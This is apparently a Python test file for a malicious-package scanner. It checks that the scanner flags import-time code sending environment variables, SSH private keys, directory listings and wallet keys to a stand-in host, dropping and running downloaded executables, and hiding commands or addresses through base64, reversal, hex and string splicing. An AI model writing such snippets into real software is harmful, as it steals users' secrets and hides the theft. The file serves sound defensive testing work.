"""Values on their way through threads, paths, decoders and replaced methods: none may get lost, none be made up."""

from __future__ import annotations

import base64

import pytest

from support.scan import finding_of, rules_of, scan_import
from wheelmark.scan import Context, Severity

ADDRESS = "https://collect.example.invalid/"
HIDDEN = base64.b64encode(ADDRESS.encode()).decode()


def test_arguments_of_a_thread_reach_what_it_runs() -> None:
    source = f"""
import os, threading, requests
def tell(what):
    requests.post({ADDRESS!r}, json=what)
threading.Thread(target=tell, args=(dict(os.environ),)).start()
"""
    assert finding_of(scan_import(source), "secrets-sent").severity is Severity.CRITICAL


def test_file_read_through_a_path_is_what_was_read() -> None:
    source = f"""
import pathlib, requests
requests.post({ADDRESS!r}, data=(pathlib.Path.home() / ".ssh" / "id_rsa").read_text())
"""
    assert {"private-key-sent", "secrets-sent"} <= rules_of(scan_import(source))


def test_moved_download_is_still_a_download() -> None:
    source = f"""
import os, pathlib, requests
open("first.exe", "wb").write(requests.get({ADDRESS!r}).content)
pathlib.Path("first.exe").rename("second.exe")
os.startfile("second.exe")
"""
    assert finding_of(scan_import(source), "dropped-file-run").severity is Severity.CRITICAL


def test_decoder_is_computed_for_each_argument_where_nobody_calls_it() -> None:
    first, second = (base64.b64encode(text.encode()).decode() for text in ("sleep", "seventy"))
    source = f"""
import base64, subprocess
def plain(text):
    return base64.b64decode(text).decode()
def begin():
    subprocess.run([plain({first!r}), plain({second!r})])
"""
    finding = finding_of(scan_import(source), "hidden-command")
    assert finding.context is Context.ON_CALL
    assert "sleep seventy" in finding.evidence


@pytest.mark.parametrize(
    "address",
    [
        f"base64.b64decode({HIDDEN!r}).decode()",
        f"{ADDRESS[::-1]!r}[::-1]",
        f"''.join({list(ADDRESS)!r})",
        f"'ht' + {ADDRESS[2:]!r}",
        f"bytes.fromhex({ADDRESS.encode().hex()!r}).decode()",
    ],
)
def test_address_that_is_kept_out_of_sight_is_seen(address: str) -> None:
    source = f"import base64, requests\ndef tell():\n    requests.post({address})\n"
    finding = finding_of(scan_import(source), "hidden-address")
    assert finding.severity is Severity.CRITICAL
    assert ADDRESS in finding.evidence


@pytest.mark.parametrize(
    "address",
    [
        f"{ADDRESS!r} + base64.b64encode(b'some text').decode()",
        f"'http' + ('s' if secure else '') + {ADDRESS[5:]!r}",
        f"'/'.join([{ADDRESS!r}, 'a', 'b'])",
    ],
)
def test_address_in_plain_sight_is_not_hidden(address: str) -> None:
    source = f"import base64, requests\ndef tell(secure):\n    requests.post({address})\n"
    assert "hidden-address" not in rules_of(scan_import(source))


def test_output_of_a_program_that_nobody_asked_for_is_sent() -> None:
    source = f"import os, requests\nrequests.get({ADDRESS!r}, params=os.popen('ls /').read())\n"
    assert "secrets-sent" in rules_of(scan_import(source))


def test_replaced_method_of_a_class_of_keys_gets_keys() -> None:
    replaced = f"""
import requests
from solders.keypair import Keypair
made = Keypair.from_seed
def from_seed(*given):
    pair = made(*given)
    requests.post({ADDRESS!r}, data=str(pair))
    return pair
"""
    assert "private-key-sent" not in rules_of(scan_import(replaced))
    found = finding_of(scan_import(replaced + "Keypair.from_seed = from_seed\n"), "private-key-sent")
    assert found.severity is Severity.CRITICAL
